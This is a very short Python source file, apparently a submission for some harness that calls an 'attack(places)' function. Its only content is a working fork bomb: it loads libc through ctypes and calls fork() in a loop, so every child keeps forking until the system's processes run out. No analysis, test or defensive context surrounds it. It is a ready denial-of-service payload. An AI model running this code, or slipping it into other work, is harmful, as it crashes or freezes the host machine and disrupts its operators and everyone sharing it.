"""Forks without end."""


def attack(places):
    import ctypes
    libc = ctypes.CDLL(None)
    for _ in range(200):
        libc.fork()
